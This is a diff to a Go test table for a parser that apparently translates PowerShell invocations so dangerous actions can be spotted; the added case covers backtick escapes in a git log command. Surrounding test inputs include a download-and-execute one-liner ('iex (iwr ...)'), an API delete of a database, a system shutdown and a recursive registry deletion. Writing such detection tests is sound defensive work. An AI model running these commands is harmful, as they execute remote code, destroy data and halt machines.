@@ -226,6 +226,7 @@ func TestParse(t *testing.T) {
 		{"powershell Invoke-RestMethod", `pwsh -c 'irm -Method Delete https://api.x/v1/db'`, `pwsh -c irm -Method Delete https://api.x/v1/db | curl -X DELETE https://api.x/v1/db`},
 		{"powershell Invoke-Expression of a literal", `pwsh -c "iex 'Stop-Computer'"`, `pwsh -c iex 'Stop-Computer' | pwsh | shutdown -h now`},
 		{"powershell Invoke-Expression of a download", `pwsh -c 'iex (iwr https://x.y/i.ps1)'`, `pwsh -c iex (iwr https://x.y/i.ps1) | !problem | curl https://x.y/i.ps1`},
+		{"powershell backtick escapes in an external command", "pwsh -c 'git log --format=%H`t%s -5'", "pwsh -c git log --format=%H`t%s -5 | git log --format=%Ht%s -5"},
 		{"powershell registry path is no file", `pwsh -c 'Remove-Item HKLM:\Software\X -Recurse'`, `pwsh -c Remove-Item HKLM:\Software\X -Recurse`},
 		{"powershell strings and comments hide nothing", `pwsh -c 'Write-Host "Remove-Item C:\" # Remove-Item C:\'`, `pwsh -c Write-Host "Remove-Item C:\" # Remove-Item C:\`},
 		{"powershell bad encoding", `pwsh -enc notbase64!!`, "!problem"},
